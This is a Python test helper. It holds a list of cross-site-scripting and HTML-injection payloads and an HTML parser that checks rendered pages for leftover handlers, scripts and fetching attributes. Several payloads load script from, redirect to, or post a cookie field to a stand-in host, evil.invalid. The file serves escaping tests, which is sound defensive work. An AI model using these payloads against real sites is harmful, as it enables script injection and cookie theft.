"""Words that would like to be markup, and a reader of pages that sees whether they became it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

EVIL = (
    "<script>window.evil=1</script>",
    "</title></style></script><script>window.evil=1</script>",
    "</title></style></script><script src=https://evil.invalid/x.js></script>",
    "\"><img src=x onerror='window.evil=1'>",
    "' onmouseover='window.evil=1' autofocus onfocus='window.evil=1",
    "&lt;script&gt;window.evil=1&lt;/script&gt;",
    "<!-- ]]> --><svg/onload=window.evil=1><iframe srcdoc='<script>parent.evil=1</script>'>",
    "javascript:window.evil=1",
    "<base href='http://evil.invalid/'><meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action=http://evil.invalid><input name=cookie><link rel=stylesheet href=http://evil.invalid/x.css>",
    "x\x00y\x1b[31m \u202eevil\u202c \u2066a\u2069",
)
VOID = {"meta", "input"}


class Read(HTMLParser):
    """What a page is made of. Fails where tags don't close.

    tags: elements with their attributes; article: the words inside the element of class "text"; words: all others;
    raw: scripts and styles by their tags.
    """

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.article = ""
        self.words: list[str] = []
        self.raw: dict[str, str] = {}
        self._depth = 0
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)
            if dict(attrs).get("class") == "text":
                self._depth = len(self.open)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag
        if len(self.open) < self._depth:
            self._depth = 0

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] in ("script", "style"):
            self.raw[self.open[-1]] = self.raw.get(self.open[-1], "") + data
        elif self._depth:
            self.article += data
        else:
            self.words.append(data)

    def assert_harmless(self, tags: set[str], links: str) -> None:
        """Only these tags, one script, no handlers, nothing that fetches, and links that fit an expression."""
        assert {tag for tag, _ in self.tags} <= tags
        assert sum(tag == "script" for tag, _ in self.tags) == 1
        for tag, attributes in self.tags:
            assert not any(name.startswith("on") for name in attributes), (tag, attributes)
            assert not {"src", "srcset", "action", "style", "srcdoc"} & set(attributes)
            assert tag != "a" or re.fullmatch(links, str(attributes["href"]))
